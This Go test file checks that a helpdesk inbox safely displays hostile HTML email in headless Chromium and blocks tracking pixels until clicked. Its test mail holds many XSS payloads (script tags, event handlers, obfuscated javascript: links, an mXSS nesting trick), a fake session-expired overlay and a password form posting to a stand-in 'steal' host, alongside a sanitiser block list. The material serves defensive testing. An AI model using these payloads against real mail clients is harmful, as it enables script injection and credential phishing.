package server

// Script-bearing HTML mail in the agent inbox, in headless Chromium: the mail comes
// through a real Dovecot, the inbox shows it in a sandboxed frame, and nothing in it
// runs, reaches the page around it, or covers the reply box.

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"kibo/connectors/email"
)

// Every active payload reports to the page around it with postMessage, which crosses
// the sandbox's origin boundary: had any of it run, the parent's listener would see it.
const hostileMail = `From: "Billing Department" <billing@shop.example>
To: support@example.com
Subject: Your invoice is ready
Message-ID: <hostile-1@shop.example>
Date: Thu, 26 Nov 2026 08:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Hello, your invoice is attached. This is the plain text version.
--alt
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body{display:none!important} #reply-text,.composer{display:none!important} *{pointer-events:none}</style>
<script>window.__xss='script';parent.postMessage('xss:script','*')</script>
</head><body onload="parent.postMessage('xss:body','*')">
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:rgba(200,0,0,.9)">OVERLAY: your session expired</div>
<div style="position:absolute;top:-9999px;margin-top:-800px">pulled up</div>
<p>Hello, your <b>invoice</b> is attached.</p>
<img src="x" onerror="window.__xss='img';parent.postMessage('xss:img','*')">
<a href="javascript:parent.postMessage('xss:link','*')">Verify your account</a>
<a href="jav&#x09;ascript:parent.postMessage('xss:link2','*')">and here</a>
<svg onload="parent.postMessage('xss:svg','*')"><circle r="10"></circle></svg>
<iframe src="javascript:parent.postMessage('xss:iframe','*')"></iframe>
<iframe srcdoc="&lt;script&gt;parent.parent.postMessage('xss:srcdoc','*')&lt;/script&gt;"></iframe>
<object data="javascript:parent.postMessage('xss:object','*')"></object>
<details open ontoggle="parent.postMessage('xss:toggle','*')"><summary>Details</summary>x</details>
<math><mtext><table><mglyph><style><img src=x onerror="parent.postMessage('xss:mxss','*')"></style></mglyph></table></mtext></math>
<form action="https://evil.example/steal" method="post"><input name="password" type="password" placeholder="Password"><button>Log in</button></form>
<p><img src="cid:logo@shop.example" alt="Shop logo" width="16" height="16"></p>
</body></html>
--rel
Content-Type: image/png
Content-ID: <logo@shop.example>
Content-Disposition: inline; filename="logo.png"
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==
--rel--
--alt--
`

func TestBrowserHostileHTMLMailIsHarmless(t *testing.T) {
	k := startKibo(t)
	dc := startTestDovecot(t)
	inbox := k.addEmailInbox(dc, 1)
	dc.appendMail(t, hostileMail)
	var convID int64
	waitFor(t, "the mail to become a conversation", func() bool {
		var list struct {
			Conversations []map[string]any `json:"conversations"`
		}
		k.api("GET", fmt.Sprintf("/api/v1/conversations?inbox=%v", inbox["id"]), k.agentToken, nil, &list, 200)
		if len(list.Conversations) == 1 {
			convID = num(list.Conversations[0]["id"])
		}
		return convID != 0
	})

	// The API gives sanitised HTML: none of the active or overlaying parts survive.
	msg := k.messages(convID)[0]
	html := strings.ToLower(msg["html"].(string))
	for _, bad := range []string{"<script", "onerror", "onload", "ontoggle", "javascript", "<svg", "<iframe", "srcdoc", "<object",
		"<form", "<input", "<style", "<link", "<meta", "<base", "position", "z-index", "100vw", "-800px", "-9999px", "evil.example", "mglyph"} {
		if strings.Contains(html, bad) {
			t.Errorf("the sanitised HTML still has %q:\n%s", bad, msg["html"])
		}
	}
	if !strings.Contains(html, "<b>invoice</b>") || !strings.Contains(html, `src="cid:logo@shop.example"`) {
		t.Errorf("the harmless parts are gone:\n%s", msg["html"])
	}
	if !strings.Contains(msg["text"].(string), "plain text version") {
		t.Errorf("text %q", msg["text"])
	}
	atts := msg["attachments"].([]any)
	if len(atts) != 1 || atts[0].(map[string]any)["content_id"] != "logo@shop.example" {
		t.Errorf("the inline image is not stored as an attachment: %v", atts)
	}

	br := newBrowser(t)
	agent := br.tab("agent")
	loginAgent(agent, k.base, "sam@example.com", "agent-password")
	showView(agent, "open")
	agent.waitJS("the row", rowSel(convID), 10*time.Second)
	// Anything that reaches out of the frame (postMessage crosses the origin boundary)
	// or into this page (window.__xss) is recorded.
	agent.exec(`(() => { window.__posts = []; window.addEventListener('message', (e) => { window.__posts.push(String(e.data)); }); })()`)
	agent.click(rowSel(convID))
	frame := `document.querySelector('#thread iframe.msg-html')`
	agent.waitJS("the mail in its frame", frame, 10*time.Second)

	// The frame is fully sandboxed: no scripts, no same origin, no forms, no popups.
	if sb := evalJS[*string](agent, frame+`.getAttribute('sandbox')`); sb == nil || *sb != "" {
		t.Fatalf("the frame's sandbox is %v, want the empty (strictest) sandbox", sb)
	}
	if evalJS[bool](agent, frame+`.sandbox.contains('allow-scripts') || `+frame+`.sandbox.length > 0`) {
		t.Fatal("the frame allows scripts")
	}
	if evalJS[bool](agent, frame+`.contentDocument !== null`) {
		t.Error("the page can reach into the frame's document: it is not an opaque origin")
	}
	noScript := `window.__xss === undefined && window.__posts.length === 0 && document.querySelectorAll('iframe').length === 1`
	agent.holdJS("no script from the mail ran", noScript, 1500*time.Millisecond)

	// Inside the frame: the message is there, none of the active parts are.
	inside := frameEval[map[string]any](t, agent, `({
	  text: document.body.innerText,
	  scripts: document.querySelectorAll('script').length,
	  frames: document.querySelectorAll('iframe, object, embed, svg, math, form, input, button, link, meta[http-equiv=refresh], base[href]').length,
	  styles: document.querySelectorAll('style').length,
	  handlers: Array.from(document.querySelectorAll('*')).filter((e) => Array.from(e.attributes).some((a) => a.name.startsWith('on'))).length,
	  fixed: Array.from(document.querySelectorAll('body *')).filter((e) => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position)).length,
	  bodyShown: getComputedStyle(document.body).display !== 'none',
	  jsLinks: Array.from(document.links).filter((a) => !/^(https?|mailto|tel):/.test(a.href)).length,
	  cid: Array.from(document.images).filter((i) => i.getAttribute('src') === 'cid:logo@shop.example').length,
	  xss: window.__xss === undefined ? 0 : 1,
	})`)
	t.Logf("inside the frame: %v", jsonText(inside))
	if !strings.Contains(fmt.Sprint(inside["text"]), "invoice") || inside["bodyShown"] != true {
		t.Errorf("the frame does not show the message: %v", inside)
	}
	for _, k := range []string{"scripts", "frames", "handlers", "fixed", "jsLinks", "xss"} {
		if n, _ := inside[k].(float64); n != 0 {
			t.Errorf("inside the frame: %s = %v", k, n)
		}
	}
	if n, _ := inside["styles"].(float64); n != 1 { // the inbox's own frame style only
		t.Errorf("inside the frame: %v <style> elements, want the inbox's one", n)
	}

	// The frame stays in its box: the page around it is not covered, and the reply box
	// takes a real click and typing.
	box := evalJS[map[string]float64](agent, `(() => { const r = `+frame+`.getBoundingClientRect(), t = document.getElementById('thread').getBoundingClientRect();
	  return {top: r.top, bottom: r.bottom, left: r.left, right: r.right, ttop: t.top, tbottom: t.bottom, tleft: t.left, tright: t.right, vw: innerWidth, vh: innerHeight}; })()`)
	if box["bottom"]-box["top"] > 470 || box["right"]-box["left"] > box["vw"]*0.8 || box["left"] < box["tleft"]-1 || box["right"] > box["tright"]+1 {
		t.Errorf("the frame is not inside the thread: %v", box)
	}
	for _, p := range [][2]float64{{5, 5}, {box["vw"] - 5, 5}, {5, box["vh"] - 5}, {box["vw"] - 5, box["vh"] - 5}, {box["vw"] / 2, box["vh"] - 40}} {
		hit := evalJS[string](agent, fmt.Sprintf(`(() => { const e = document.elementFromPoint(%f, %f); return e ? e.tagName : ''; })()`, p[0], p[1]))
		if hit == "IFRAME" {
			t.Errorf("the mail's frame covers the page at %v", p)
		}
	}
	agent.click(`document.getElementById('reply-text')`)
	agent.waitJS("the reply box focused by the click", `document.activeElement === document.getElementById('reply-text')`, 5*time.Second)
	agent.key("Thanks, we do not click such links.")
	agent.waitJS("the typed reply", `document.getElementById('reply-text').value === 'Thanks, we do not click such links.'`, 5*time.Second)
	agent.holdJS("still no script from the mail", noScript, 300*time.Millisecond)
	agent.screenshot("formatted")

	// Plain text shows the text part, as text.
	agent.click(`document.querySelector('#thread .msg-toggle')`)
	agent.waitJS("the plain text", `!`+frame+` && Array.from(document.querySelectorAll('#thread .msg-body .msg-text')).some((e) => e.textContent.includes('This is the plain text version.'))`, 5*time.Second)
	agent.holdJS("no markup in the plain text", `window.__xss === undefined && window.__posts.length === 0`, 300*time.Millisecond)
	agent.screenshot("plain")
	agent.click(`document.querySelector('#thread .msg-toggle')`)
	agent.waitJS("the formatted view again", frame, 5*time.Second)
	agent.holdJS("no script after switching back", `window.__xss === undefined && window.__posts.length === 0`, 500*time.Millisecond)
}

// frameEval evaluates js inside the message's frame and decodes the value. Chromium
// runs a sandboxed frame in a process of its own (an "iframe" target): the test
// attaches to it, which page scripts cannot do and which the sandbox does not stop.
func frameEval[T any](t *testing.T, tb *tab, js string) T {
	t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, 10*time.Second)
	defer cancel()
	infos, err := chromedp.Targets(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var id target.ID
	for _, in := range infos {
		if in.Type == "iframe" && in.URL == "about:srcdoc" {
			if id != "" {
				t.Fatal("more than one srcdoc frame: which is the message?")
			}
			id = in.TargetID
		}
	}
	if id == "" {
		// the browser kept it in the page's process: reach it through the frame tree
		return frameTreeEval[T](t, tb, js)
	}
	fctx, fcancel := chromedp.NewContext(tb.ctx, chromedp.WithTargetID(id), chromedp.WithDetachOnCancel()) // closing it would close the tab
	defer fcancel()
	ectx, ecancel := context.WithTimeout(fctx, 10*time.Second)
	defer ecancel()
	v, err := chromedp.Run(ectx, chromedp.Evaluate[T](js))
	if err != nil {
		t.Fatalf("evaluating inside the frame: %v", err)
	}
	return v
}

func frameTreeEval[T any](t *testing.T, tb *tab, js string) T {
	t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, 10*time.Second)
	defer cancel()
	var raw []byte
	err := chromedp.Do(ctx, chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		tree, err := cdp.Call(ctx, tg, page.GetFrameTree, cdp.Empty{})
		if err != nil {
			return err
		}
		if tree.FrameTree == nil || len(tree.FrameTree.ChildFrames) != 1 {
			return fmt.Errorf("the page has no single child frame")
		}
		grant := true
		world, err := cdp.Call(ctx, tg, page.CreateIsolatedWorld, page.CreateIsolatedWorldParams{
			FrameID: tree.FrameTree.ChildFrames[0].Frame.ID, WorldName: "kibo-test", GrantUniveralAccess: &grant,
		})
		if err != nil {
			return err
		}
		byValue := true
		res, err := cdp.Call(ctx, tg, runtime.Evaluate, runtime.EvaluateParams{Expression: js, ContextID: world.ExecutionContextID, ReturnByValue: &byValue})
		if err != nil {
			return err
		}
		if res.ExceptionDetails != nil {
			return fmt.Errorf("%s", res.ExceptionDetails.Text)
		}
		raw = append([]byte(nil), res.Result.Value...)
		return nil
	}))
	if err != nil {
		t.Fatalf("looking inside the frame: %v", err)
	}
	var v T
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatalf("frame value %s: %v", raw, err)
	}
	return v
}

// countingListener counts the connections a server accepts: a browser that merely
// tries to fetch a tracking pixel has told its sender the mail was opened, whether or
// not the image then loads (the test server's certificate is not one Chromium trusts).
type countingListener struct {
	net.Listener
	n atomic.Int32
}

func (l *countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.n.Add(1)
	}
	return c, err
}

// A mail with a remote image (a tracking pixel) and an inline one: opening it shows
// the inline image and fetches nothing remote; only the agent's click on "Load remote
// images" does.
func TestBrowserRemoteImagesWaitForTheClick(t *testing.T) {
	k := startKibo(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	pixelLn := &countingListener{Listener: ln}
	pixel := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/gif")
		w.Write([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"))
	}))
	pixel.Listener = pixelLn
	pixel.Config.ErrorLog = log.New(io.Discard, "", 0) // Chromium refuses its certificate
	pixel.StartTLS()
	defer pixel.Close()

	ctx := context.Background()
	in, err := k.st.CreateInbox(ctx, "email", "Support mail", "", map[string]any{"address": "support@example.com"})
	if err != nil {
		t.Fatal(err)
	}
	raw := strings.ReplaceAll(`From: Newsletter Shop <news@shop.example>
To: support@example.com
Subject: Your order has shipped
Message-ID: <tracked-1@shop.example>
Date: Thu, 26 Nov 2026 08:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<p>Your <b>order</b> has shipped.</p>
<p><img src="PIXEL/open.gif?r=ann" alt="" width="1" height="1"></p>
<p><img src="cid:logo@shop.example" alt="Shop logo" width="16" height="16"></p>
--rel
Content-Type: image/png
Content-ID: <logo@shop.example>
Content-Disposition: inline; filename="logo.png"
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==
--rel--
`, "PIXEL", pixel.URL)
	raw = strings.ReplaceAll(raw, "\n", "\r\n")
	p, err := email.Parse([]byte(raw), 0)
	if err != nil {
		t.Fatal(err)
	}
	got, err := (sink{k.srv}).Deliver(ctx, email.ToInbound(in.ID, p, []byte(raw)))
	if err != nil {
		t.Fatal(err)
	}
	if html := k.messages(got.ConversationID)[0]["html"].(string); !strings.Contains(html, pixel.URL) {
		t.Fatalf("the remote image is not in the message's HTML, the test would prove nothing:\n%s", html)
	}

	br := newBrowser(t)
	agent := br.tab("agent")
	loginAgent(agent, k.base, "sam@example.com", "agent-password")
	showView(agent, "open")
	agent.click(rowSel(got.ConversationID))
	frame := `document.querySelector('#thread iframe.msg-html')`
	agent.waitJS("the mail in its frame", frame, 10*time.Second)
	time.Sleep(1500 * time.Millisecond)
	if n := pixelLn.n.Load(); n != 0 {
		t.Fatalf("opening the mail made %d connections to the tracking pixel's server", n)
	}
	agent.waitJS("the notice about remote images", `document.querySelector('#thread .msg-images-load')`, 5*time.Second)

	// the inline image shows; the remote one is neither shown nor fetched
	inlineShown := func() bool {
		v := frameEval[map[string]float64](t, agent, `({
		  inline: Array.from(document.images).filter((i) => i.src.startsWith('data:image/png') && i.complete && i.naturalWidth > 0).length,
		  remote: Array.from(document.images).filter((i) => /^https?:/.test(i.getAttribute('src') || '')).length,
		})`)
		if v["remote"] != 0 {
			t.Errorf("the frame holds a remote image before the click: %v", v)
		}
		return v["inline"] == 1
	}
	deadline := time.Now().Add(10 * time.Second)
	for !inlineShown() {
		if time.Now().After(deadline) {
			t.Fatal("the inline (cid:) image does not show")
		}
		time.Sleep(100 * time.Millisecond)
	}
	if n := pixelLn.n.Load(); n != 0 {
		t.Fatalf("showing the mail made %d connections to the tracking pixel's server", n)
	}
	agent.screenshot("remote-images-blocked")

	agent.click(`document.querySelector('#thread .msg-images-load')`)
	for deadline := time.Now().Add(10 * time.Second); pixelLn.n.Load() == 0; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("after the click, the remote image was never requested")
		}
	}
	agent.waitJS("the frame without the notice", frame+` && !document.querySelector('#thread .msg-images-load')`, 5*time.Second)
	// the choice holds for this message when the agent switches views
	agent.click(`document.querySelector('#thread .msg-toggle')`)
	agent.click(`document.querySelector('#thread .msg-toggle')`)
	agent.waitJS("the formatted view, still with remote images", frame+` && !document.querySelector('#thread .msg-images-load')`, 5*time.Second)
}
